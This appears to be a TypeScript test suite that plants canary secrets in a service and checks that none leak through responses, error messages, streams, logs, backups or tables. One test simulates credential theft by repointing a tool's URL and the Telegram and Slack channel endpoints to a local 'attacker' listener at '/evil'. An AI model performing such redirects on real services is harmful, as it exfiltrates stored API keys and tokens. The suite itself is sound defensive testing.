/**
 * Canary secrets in every field that accepts one: none may appear in a response, a stream, a log line, a backup or a
 * table, in any encoding; and none may be sent to a changed address.
 */
import { sampled } from './random.ts'
import { z } from 'zod'
import { withTables } from '#bench/engine/service.ts'
import { readEvents } from '#test/service/support/event-reader.ts'
import { fill, sender, type AccountObjects, type Send } from './accounts.ts'
import { findCanary } from './canary-forms.ts'
import { listenOutside, nextMarker, plantThroughChannels, createCanaryTools, runFlows } from './canary-planting.ts'
import { accountEndpoints, isWrite, pathAbout } from './endpoints.ts'
import type { Fault } from './faulty-proxy.ts'
import type { Listener } from './listener.ts'
import type { Suite, Tally } from './suite.ts'
import { headersOf, type CallOptions, type SuiteContext } from './suite-context.ts'

const Id = z.looseObject({ id: z.string() })

interface PlantedCanaries {
  of: AccountObjects
  tools: string[]
}

/** Stored credentials must not be sent to a changed address. */
async function tryChangedAddresses(context: SuiteContext, tally: Tally, outside: Listener) {
  const { one, agent, service } = context
  const send = sender(agent, service.process.url)
  const as = one.operator
  const attackerServer = await listenOutside()
  try {
    const url = `${attackerServer.origin}/evil`
    const body = {
      name: 'Moved',
      category: 'api',
      config: {
        method: 'POST',
        url: `${outside.origin}/call`,
        headers: { 'X-Api-Key': nextMarker() },
        query: { sig: nextMarker() },
        auth: { kind: 'bearer', secret: nextMarker() },
      },
    }
    const tool = z
      .looseObject({ id: z.string(), config: z.looseObject({}) })
      .parse((await send(one.owner, 'POST', '/tool/', { body })).body)
    const changedTool = await context.call('PATCH', `/tool/${tool.id}/`, {
      as,
      body: { config: { ...tool.config, url } },
    })
    const trial = await context.call('POST', `/tool/${tool.id}/try/`, { as, body: { input: {} } })
    tally.check(
      attackerServer.receivedRequests.every((sent) => findCanary(sent) === null),
      'the credentials of a tool are sent to a changed address',
      () =>
        `PATCH {"config": {…, "url": "${url}", "auth": {"kind": "bearer", "secret": {"set": true}}}} → ${changedTool.status}, try → ${trial.status}; ${attackerServer.receivedRequests.join(' ').slice(0, 400)}`,
    )
    for (const type of ['telegram', 'slack']) {
      attackerServer.receivedRequests.length = 0
      const credentials =
        type === 'slack'
          ? { bot_token: `xoxb-${nextMarker()}`, signing_secret: nextMarker() }
          : { bot_token: `1234567890:${nextMarker()}` }
      const draft = { type, name: `Moved ${type}`, config: { api_base: `${outside.origin}/call` }, credentials }
      const { id } = Id.parse((await send(one.owner, 'POST', '/channel/', { body: draft })).body)
      const changed = await context.call('PATCH', `/channel/${id}/`, { as, body: { config: { api_base: url } } })
      const tested = await context.call('POST', `/channel/${id}/test/`, { as })
      tally.check(
        attackerServer.receivedRequests.every((sent) => findCanary(sent) === null),
        `the credentials of ${type} are sent to a changed address`,
        () =>
          `PATCH {"config": {"api_base": "${url}"}} → ${changed.status}, test → ${tested.status}; ${attackerServer.receivedRequests.join(' ').slice(0, 400)}`,
      )
      await context.call('DELETE', `/channel/${id}/`, { as })
    }
  } finally {
    await attackerServer.close()
  }
}

function checkText(tally: Tally, kind: string, where: string, text: string): void {
  const found = findCanary(text)
  tally.check(found === null, `${kind} shows a secret ${found?.form}`, () => `${where}: … ${found?.around} …`)
}

const Rows = z.looseObject({ results: z.array(Id), next: z.string().nullable() })

/** Ids of all rows of a list. */
async function idsOf(send: Send, { one }: SuiteContext, path: string): Promise<string[]> {
  const ids: string[] = []
  for (let at: string | null = `${path}?limit=100`; at !== null;) {
    const { results, next }: z.infer<typeof Rows> = Rows.parse((await send(one.owner, 'GET', at)).body)
    ids.push(...results.map(({ id }) => id))
    at = next === null ? null : next.slice(next.indexOf('/api/') + '/api'.length)
  }
  return ids
}

/** Reads all lists and objects as callers with different permissions. */
async function readEverything(context: SuiteContext, tally: Tally, { of, tools }: PlantedCanaries) {
  const { one, agent, service, isQuick } = context
  const send = sender(agent, service.process.url)
  const readAndCheck = async (as: CallOptions['as'], path: string, kind: string, accept = 'application/json') => {
    const got = await context.call('GET', path, { ...(as ? { as } : {}), headers: { accept } })
    checkText(tally, kind, `${as?.name}: GET /api${path}`, `${JSON.stringify(got.headers)}${got.text}`)
  }
  const nested: [string, string, string[]][] = [
    ['/flow/', 'flow', ['', 'export/']],
    ['/tool/', 'tool', ['', 'usage/', 'versions/', 'versions/1/']],
    ['/channel/', 'channel', ['', 'deliveries/?limit=100', 'history/']],
    ['/conversation/', 'conversation', ['', 'message/']],
    ['/billing/runs/', 'run', ['']],
  ]
  const lists = await Promise.all(
    nested.map(async ([path, noun, inner]) => ({ path, noun, inner, ids: await idsOf(send, context, path) })),
  )
  for (const as of isQuick ? [one.viewer] : [one.owner, one.viewer, one.readKey]) {
    for (const endpoint of sampled(accountEndpoints.filter((each) => !isWrite(each) && each.media !== 'stream')))
      for (const accept of endpoint.hasCsv ? ['application/json', 'text/csv'] : ['application/json'])
        await readAndCheck(as, pathAbout(endpoint, of), endpoint.id, accept)
    for (const { path, noun, inner, ids } of lists)
      for (const id of sampled(ids))
        for (const rest of inner) await readAndCheck(as, `${path}${id}/${rest}`, `${noun} ${rest.split('?')[0]}`.trim())
  }
  for (const id of tools) {
    const got = await context.call('POST', `/tool/${id}/try/`, { as: one.operator, body: { input: {} } })
    checkText(tally, 'a trial', `operator: POST /api/tool/${id}/try/`, got.text)
  }
}

/** Errors that might echo the request. */
async function tryErrors(context: SuiteContext, tally: Tally) {
  const { one } = context
  const secret = nextMarker()
  const files = [
    `{"password": "${secret}", `,
    `password: "${secret}"\npassword: "${secret}"\n`,
    `{"${secret}": 1, "${secret}": 2}`,
    `- *sk-${secret}\n`,
  ]
  for (const template of files) {
    const got = await context.call('POST', '/flow/import/', { as: one.operator, body: { template } })
    checkText(tally, 'an import error', `POST /api/flow/import/ ${template.slice(0, 20)}…`, got.text)
  }
  const wrong = await context.call('GET', '/flow/', { headers: { authorization: `Token fck_${secret}` } })
  checkText(tally, 'an authentication error', 'GET /api/flow/', wrong.text)
}

const tables = `select table_schema as schema, table_name as name from information_schema.tables
  where table_type = 'BASE TABLE' and table_schema not in ('pg_catalog', 'information_schema')`

/** One case for all rows; reports the first finding of each encoding. */
function checkRows(tally: Tally, kind: string, rows: readonly string[]): void {
  const forms = new Map<string, string>()
  for (const row of rows) {
    const found = findCanary(row)
    if (found && !forms.has(found.form)) forms.set(found.form, found.around)
  }
  if (forms.size === 0) tally.check(true, kind, () => '')
  for (const [form, around] of forms) tally.check(false, `${kind} shows a secret ${form}`, () => `… ${around} …`)
}

/** Checks the log, backups and every table. */
async function checkStorage({ service }: SuiteContext, tally: Tally) {
  checkRows(tally, 'the log', service.process.log().split('\n'))
  for (const withSecrets of [false, true])
    checkRows(
      tally,
      `a backup ${withSecrets ? 'with' : 'without'} secrets`,
      (await service.backup(withSecrets)).split('\n'),
    )
  await service.process.stop()
  await withTables(service.env, service.process.dataDir, async (query) => {
    for (const { schema, name } of await query(tables)) {
      const rows = await query(`select t::text as row from "${String(schema)}"."${String(name)}" t`)
      checkRows(
        tally,
        `the table ${String(name)}`,
        rows.map(({ row }) => String(row)),
      )
    }
  })
  await service.process.start()
}

const plainSecret: { secret: string | null } = { secret: null }
const rememberSecret = (body: Buffer) => {
  plainSecret.secret = /Zq7R\d{4}\w{32}/.exec(body.toString())?.[0] ?? plainSecret.secret
}

const faults: Fault[] = ['plain', 'base64'].map((form) => ({
  name: `puts a secret into a response (${form})`,
  request: (passing) => {
    rememberSecret(passing.body)
    return passing
  },
  changeResponse: (passed, { path }) => {
    const { secret } = plainSecret
    if (secret === null || !path.includes('/billing/runs/')) return passed
    const text = form === 'plain' ? secret : Buffer.from(`user:${secret}`).toString('base64')
    return { ...passed, body: Buffer.from(passed.body.toString().replace('{', `{"planted":"${text}",`)) }
  },
}))

export const canaries: Suite = {
  name: 'canaries',
  faults,
  async run(context, tally) {
    const { service, agent, one, url } = context
    // Writes are sent to the suite's URL too, so that a planted fault sees them.
    const send = sender(agent, url)
    const of = await fill(agent, service.process.url, one)
    const outside = await listenOutside()
    const stream = await readEvents(`${url}/api/event/`, headersOf(one.readKey, url))
    try {
      const tools = await createCanaryTools(send, context, outside)
      await runFlows(send, context, outside)
      await plantThroughChannels(send, context, of)
      await tryErrors(context, tally)
      await tryChangedAddresses(context, tally, outside)
      await readEverything(context, tally, { of, tools })
      tally.check(
        outside.receivedRequests.some((sent) => findCanary(sent) !== null),
        'no secret was sent',
        () => outside.receivedRequests.join(' ').slice(0, 300),
      )
      checkText(tally, 'the event stream', 'GET /api/event/', JSON.stringify(stream.received))
    } finally {
      stream.close()
      await outside.close()
    }
    await checkStorage(context, tally)
  },
}
